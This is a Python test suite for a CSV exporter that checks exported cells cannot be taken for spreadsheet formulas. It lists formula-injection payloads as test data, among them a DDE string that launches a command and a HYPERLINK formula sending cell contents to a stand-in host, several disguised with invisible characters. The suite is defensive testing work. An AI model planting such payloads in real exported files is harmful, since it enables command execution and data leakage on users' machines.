"""F11: Saved tables hold no formulas, however a spreadsheet parts their cells, and no text is lost."""

import csv
import io
import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scripts import script

SIGNS = "=+-@|%\uff1d\uff0b\uff0d\uff20"
CALLS = ["1+1", "SUM(A1)", "cmd|' /C calc'!A0", 'HYPERLINK("https://x.example/?a="&A1)', "IMPORTXML(A1)"]
PAYLOADS = [
    *[sign + call for sign in SIGNS for call in CALLS[:3]],
    *[
        before + "=" + CALLS[3]
        for before in [
            " ",
            "\t",
            "\r",
            "\n",
            "\0",
            "\ufeff",
            "\u200b",
            "\u00a0",
            "\u2060",
            "\u00ad",
            '"',
            '""',
            '" ',
            "\u202e",
            "\u3000",
        ]
    ],
    *[
        "a;=1+1",
        "a\t=1+1",
        "a\n=1+1",
        "a\r\n=1+1",
        "a\r=1+1",
        'a;"=1+1"',
        'a\n"=1+1',
        "a; =1+1",
        "\t=1+1",
        ";=1+1",
        "\n\n=1+1",
        "a;;=1+1",
    ],
    *['";=1+1', '";"=1+1', "a;\u200b=1+1", 'a";\t=1+1', "a\t\ufeff@SUM(A1)"],
]
BLANK = re.compile('[\\s"\x00-\x1f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]*')
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?")


def table(rows: list[list[Any]]) -> str:
    """The file; a number in a row is a cell made by `bare`."""
    return script('(rows) => csvOf(rows.map((row) => row.map((cell) => (typeof cell === "number" ? bare(cell) : cell))))', "csv")(
        rows
    )


def cells(text: str) -> list[str]:
    """All cells that any of these may see: readers that honour quotes, for three separators, and ones that do not."""
    text = text.removeprefix("\ufeff")
    found = [cell for sign in ",;\t" for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign) for cell in row]
    return [*found, *re.split("[;\t\r\n]", text)]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may take it for one, even if it drops blanks, quotes and signs without a shape first."""
    rest = cell[BLANK.match(cell).end() :]
    return rest[:1] in {*SIGNS} and not NUMBER.fullmatch(cell)


@pytest.fixture(autouse=True)
def _no_limit() -> None:
    csv.field_size_limit(10**9)


def test_there_are_sixty_payloads_and_the_model_knows_each() -> None:
    assert len(set(PAYLOADS)) >= 60
    for payload in PAYLOADS:
        naive = '"question","q","{}",""\r\n'.format(payload.replace('"', '""'))
        assert any(is_formula(cell) for cell in cells(naive)), payload


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
@pytest.mark.parametrize("place", range(5))
def test_no_cell_is_a_formula(payload: str, place: int) -> None:
    row: list[Any] = ["question", "story", "What?", "one", "two"]
    row[place] = payload
    text = table([["kind", "id", "text", "answer", "words"], row, ["question", "hours", "How many?", -3, "-3"]])
    assert not [cell for cell in cells(text) if is_formula(cell)]


@given(st.lists(st.text(st.sampled_from([*SIGNS, *"1;\t\r\n\0 \"',\ufeff\u200ba"]), max_size=12), min_size=1, max_size=3))
@settings(max_examples=500)
def test_no_made_up_cell_is_a_formula(row: list[str]) -> None:
    assert not [cell for cell in cells(table([row, row])) if is_formula(cell)]


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
@settings(max_examples=300)
def test_nothing_but_the_marks_is_added(text: str) -> None:
    ((cell, last),) = csv.reader(io.StringIO(table([[text, "end"]]).removeprefix("\ufeff"), newline=""))
    assert cell.replace("'", "") == text.replace("'", "")
    assert last == "end"


@pytest.mark.parametrize("number", [0, -3, 37.5, -0.25, 1e-7, 1e9])
def test_a_number_stays_a_number(number: float) -> None:
    assert float(table([["x", number]]).removeprefix('\ufeff"x",').removesuffix("\r\n")) == number


def test_plain_text_stays_as_it_is() -> None:
    lines = 'Two lines,\r\n\r\nwith "quotes"; and a dash - here, a@b.example, 5% = 1/20'
    assert table([["a", lines], ["", ""]]) == '\ufeff"a","{}"\r\n"",""\r\n'.format(lines.replace('"', '""'))
